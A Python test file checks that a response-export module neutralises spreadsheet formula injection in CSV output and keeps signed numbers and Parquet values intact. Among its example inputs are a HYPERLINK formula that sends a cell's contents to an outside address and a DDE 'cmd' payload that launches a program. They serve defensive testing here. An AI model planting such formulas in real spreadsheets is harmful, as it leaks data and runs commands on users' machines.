"""Exported pairs: what callers and models said is text, whatever a spreadsheet would make of it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import duckdb
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from shadow_ops.responses.export import exported
from shadow_ops.responses.tally import Example

CELLS = ("key", "production", "shadow", "request", "segment")
FIRST = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207a\u208c"
BEFORE = st.text(" \t\r\n\x0b\x0c\x00\x1b\x85\xa0\u1680\u2003\u2028\u202f\u3000\u200b\ufeff\u2060", max_size=3)
AFTER = st.text(st.characters(exclude_categories=["Cs"]), max_size=9)
TEXTS = st.one_of(
    st.builds("{}{}{}".format, BEFORE, st.sampled_from(FIRST), AFTER),
    st.builds(str.__add__, st.sampled_from("\t\r\n\x00"), AFTER),
)
NUMBERS = st.floats(allow_nan=False, allow_infinity=False).map(repr) | st.integers().map("{:+d}".format)


def pair(cell: str, text: str) -> Example:
    """A pair that differs, with a text somewhere in it."""
    said = dict(zip(CELLS, ("k", "0.5", "0.6", "1,2", "all"), strict=True)) | {cell: text}
    return Example(rank=(0.0, 0.0, 0.0), hour="2026-11-24T09", parts=(("score", "0.1 apart"),), **said)


def rows(folder: Path, name: str, *pairs: Example) -> list[dict[str, str]]:
    """What an exported file says."""
    with exported(folder / name) as take:
        for one in pairs:
            take(one)
    if name.endswith(".csv"):
        with (folder / name).open(newline="", encoding="utf-8") as file:
            return list(csv.DictReader(file))
    found = duckdb.connect().execute(f"SELECT * FROM '{folder / name}'")
    names = [one[0] for one in found.description]
    return [dict(zip(names, row, strict=True)) for row in found.fetchall()]


@given(st.sampled_from(CELLS), TEXTS.filter(lambda one: not re.fullmatch(r"[+-][\d.eE+-]+", one, re.ASCII)))
@example("request", '=HYPERLINK("http://x/?"&A1,"open")')
@example("key", "-2+3+cmd|' /C calc'!A0")
@example("production", "-inf")
@example("shadow", "+1_000")
@example("segment", "-\u0661=")
@example("production", " \t\u3000=1+1")
@example("shadow", "\ufeff\uff1dcmd")
def test_no_cell_of_a_csv_file_is_a_formula(tmp_path_factory: pytest.TempPathFactory, cell: str, text: str) -> None:
    """In any column; the text is whole behind the apostrophe."""
    [row] = rows(tmp_path_factory.getbasetemp(), "seen.csv", pair(cell, text))
    assert row[cell] == f"'{text}"


@given(st.sampled_from(CELLS), NUMBERS)
@example("production", "-.5")
@example("production", "-1.")
@example("production", "-1e-7")
def test_numbers_stay_numbers(tmp_path_factory: pytest.TempPathFactory, cell: str, text: str) -> None:
    """With a sign in front of them, too."""
    [row] = rows(tmp_path_factory.getbasetemp(), "seen.csv", pair(cell, text))
    assert row[cell] == text


@pytest.mark.parametrize("cell", CELLS)
def test_parquet_has_every_cell_as_it_was(tmp_path: Path, cell: str) -> None:
    """No spreadsheet runs it."""
    texts = [
        "=1+1",
        "@x",
        "-0.5",
        "'=x",
        "plain",
        "",
        '""',
        "NULL",
        "a\nb",
        "a\r\nb",
        '"',
        ",",
        " ",
        "\u00e4\U0001f408",
    ]
    found = rows(tmp_path, "seen.parquet", *(pair(cell, text) for text in texts))
    assert [row[cell] for row in found] == texts


@pytest.mark.parametrize("letter", ["x", "\U0001f408"])
def test_a_pair_of_any_length_is_written(tmp_path: Path, letter: str) -> None:
    """Answers of 20 million letters are compared, so they are exported, too."""
    long = pair("production", letter * 20_000_000)
    (row,) = rows(tmp_path, "seen.parquet", long)
    assert row["production"] == long.production
